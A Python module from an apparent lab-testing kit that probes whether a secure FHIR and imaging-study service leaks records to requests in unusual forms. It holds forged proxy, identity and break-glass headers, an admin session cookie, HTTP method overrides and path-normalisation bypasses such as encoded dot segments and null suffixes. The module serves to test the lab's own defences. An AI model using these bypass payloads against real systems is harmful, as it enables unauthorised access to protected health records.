"""Attempts at the secure lab by the form of a request: methods, headers, spellings of paths."""

from __future__ import annotations

from collections.abc import Callable, Mapping
from contextlib import closing
from http.client import HTTPConnection, HTTPException
from typing import Any
from urllib.parse import urlsplit

from labkit.lab.bypass.attempt import Attempt, attempt, found_in
from labkit.lab.bypass.doors import Doors, Known
from labkit.lab.bypass.secure_tokens import at

HEADERS, METHODS, PATHS = "headers", "methods", "paths"
_TOLD = ("content-type", "content-length", "etag", "last-modified", "allow", "location", "warning",
         "x-progress")  # fmt: skip


def raw(
    d: Doors,
    base: str,
    path: str,
    *,
    method: str = "GET",
    headers: Mapping[str, str] | None = None,
    token: bool = True,
) -> tuple[Any, ...]:
    """Send a request as it is written: no library puts the path in order."""
    place = urlsplit(base)
    own = {"Authorization": d.http.headers["Authorization"]} if token else {}
    with closing(HTTPConnection(place.hostname or "", place.port, timeout=60)) as link:
        try:
            link.request(method, path, None, {**own, **(headers or {})})
            answer = link.getresponse()
            text = answer.read().decode("latin-1")
        except (HTTPException, OSError, ValueError) as error:  # what no server can be sent
            return type(error).__name__, ""
    told = tuple(f"{name}: {answer.getheader(name, '')}" for name in _TOLD)
    return answer.status, text, *(told if answer.status < 400 else ())


def _paths(d: Doors, known: Known) -> tuple[tuple[str, str], ...]:
    """Return where the target is: base URL, and path on that host."""
    fhir, web, facade = (urlsplit(url).path for url in (d.fhir, d.web, d.facade))
    return (
        (d.fhir, f"{fhir}/ImagingStudy/{known.fhir_id}"),
        (d.web, f"{web}/studies/{known.study}/metadata"),
        (d.facade, f"{facade}/studies/{known.study}/metadata"),
    )


Form = Callable[[Doors, str, str], Any]


def _told(d: Doors, form: Form) -> bool:
    """Whether a form of request tells the target from a study that is nowhere, at any door."""
    return d.tells(lambda k: [form(d, base, path) for base, path in _paths(d, k)])


#: Headers that a proxy before a service would set, and that a service may believe.
_FORGED: dict[str, tuple[str, dict[str, str]]] = {
    "forwarded": ("Claim to come from this machine, for the administrator, behind a proxy.", {
        "X-Forwarded-For": "127.0.0.1", "X-Real-IP": "127.0.0.1", "X-Forwarded-Proto": "https",
        "X-Forwarded-User": "lanternwick", "X-Remote-User": "lanternwick",
        "Forwarded": "for=127.0.0.1;by=127.0.0.1;proto=https",
    }),
    "host": ("Claim to ask another host.", {"Host": "localhost", "X-Forwarded-Host": "localhost"}),
    "rewritten": ("Ask for a public path, and name another in a header.", {
        "X-Original-URL": "{path}", "X-Rewrite-URL": "{path}", "X-Forwarded-Prefix": "/fhir",
    }),
    "purpose": ("Say in headers that it is an emergency, and on whose behalf.", {
        "Purpose-Of-Use": "BTG", "X-Purpose-Of-Use": "BTG", "X-Break-Glass": "true",
        "X-Provenance": "{}", "X-Client-Cert": "CN=LEARNER", "X-SSL-Client-Verify": "SUCCESS",
    }),
}  # fmt: skip


def _with_headers(name: str, says: str, headers: dict[str, str]) -> Attempt:
    def form(d: Doors, base: str, path: str) -> Any:
        sent = {key: value.replace("{path}", path) for key, value in headers.items()}
        public = urlsplit(base).path + "/metadata" if name == "rewritten" else path
        return (
            raw(d, base, path, headers=sent),
            raw(d, base, public, headers=sent, token=at(d).seat.allowed)[:1],
        )

    return Attempt(f"header-{name}", HEADERS, says, lambda d: _told(d, form))


_HEADERS = tuple(_with_headers(name, *each) for name, each in _FORGED.items())


@attempt("header-two-tokens", HEADERS)
def two_tokens(d: Doors) -> bool:
    """Send a token of one's own, and in other places what stands for one."""
    token = d.http.headers["Authorization"].partition(" ")[2]

    def form(d: Doors, base: str, path: str) -> Any:
        more = {"X-Authorization": "Bearer x", "Cookie": f"access_token={token}; session=admin"}
        return raw(d, base, path, headers=more), raw(d, base, path, headers=more, token=False)

    return _told(d, form)


def _method(name: str, says: str, method: str, **headers: str) -> Attempt:
    named = {key.replace("_", "-"): value for key, value in headers.items()}

    def form(d: Doors, base: str, path: str) -> Any:
        with_token = raw(d, base, path, method=method, headers=named)
        return with_token, raw(d, base, path, method=method, headers=named, token=False)

    return Attempt(f"method-{name}", METHODS, says, lambda d: _told(d, form))


_BY_METHOD = (
    _method("head", "Send HEAD: what the headers of the answer tell.", "HEAD"),
    _method("options", "Send OPTIONS: which methods are allowed there.", "OPTIONS"),
    _method("preflight", "Ask as a browser does before it asks, which needs no token.", "OPTIONS",
            Origin="http://lakeside.example", Access_Control_Request_Method="GET"),
    _method("trace", "Send TRACE.", "TRACE"),
    _method("override", "Send a POST that a header says is a GET.", "POST",
            X_HTTP_Method_Override="GET", X_HTTP_Method="GET", X_Method_Override="GET"),
    _method("override-get", "Send a GET that a header says is a DELETE.", "GET",
            X_HTTP_Method_Override="DELETE"),
    _method("propfind", "Send a method that is not of HTTP itself.", "PROPFIND"),
    _method("since", "Ask only for what was changed since long ago.", "GET",
            If_Modified_Since="Thu, 01 Jan 1970 00:00:00 GMT"),
    _method("since-future", "Ask only for what will be changed.", "GET",
            If_Modified_Since="Fri, 01 Jan 2100 00:00:00 GMT"),
    _method("range", "Ask for the first bytes.", "GET", Range="bytes=0-9"),
)  # fmt: skip

_TRICKS: dict[str, tuple[str, Callable[[str], str]]] = {
    "encoded": ("Encode letters of the path.", lambda p: p[:-1] + f"%{ord(p[-1]):02x}"),
    "dots": ("Lead the path up and down again.", lambda p: _middle(p, "/x/../")),
    "dots-encoded": ("The same with encoded dots.", lambda p: _middle(p, "/x/%2e%2e/")),
    "dot": ("Put a dot into the path.", lambda p: _middle(p, "/%2e/")),
    "slashes": ("Double the slashes.", lambda p: p.replace("/", "//")),
    "slash-encoded": ("Encode a slash.", lambda p: _middle(p, "%2f")),
    "backslash": ("Write a slash the other way.", lambda p: _middle(p, "%5c")),
    "parameter": ("Add a path parameter.", lambda p: p + ";jsessionid=1"),
    "parameter-inside": ("Add a path parameter inside.", lambda p: _middle(p, ";v=1/")),
    "slash-at-end": ("End with a slash.", lambda p: p + "/"),
    "null": ("End with a null.", lambda p: p + "%00.json"),
    "suffix": ("Ask for a format by a suffix.", lambda p: p + ".json"),
    "case": ("Write it in upper case.", str.upper),
    "absolute": ("Send the whole URL.", lambda p: "http://localhost" + p),
    "fragment": ("Hide the end behind an encoded fragment.", lambda p: p + "%23/metadata"),
}


def _middle(path: str, instead: str) -> str:
    """Put something in the place of the last slash."""
    head, _, tail = path.rpartition("/")
    return head + instead + tail


def _trick(name: str, says: str, change: Callable[[str], str]) -> Attempt:
    def form(d: Doors, base: str, path: str) -> Any:
        root = urlsplit(base).path
        public = f"{root}/metadata/..{path.removeprefix(root)}"  # what needs no token, and on
        return (
            raw(d, base, change(path)),
            raw(d, base, change(path), token=False),
            raw(d, base, change(public), token=False),
        )

    return Attempt(f"path-{name}", PATHS, says, lambda d: _told(d, form))


_PATHS = tuple(_trick(name, *each) for name, each in _TRICKS.items())
ATTEMPTS = (*_HEADERS, *_BY_METHOD, *_PATHS, *found_in(globals()))
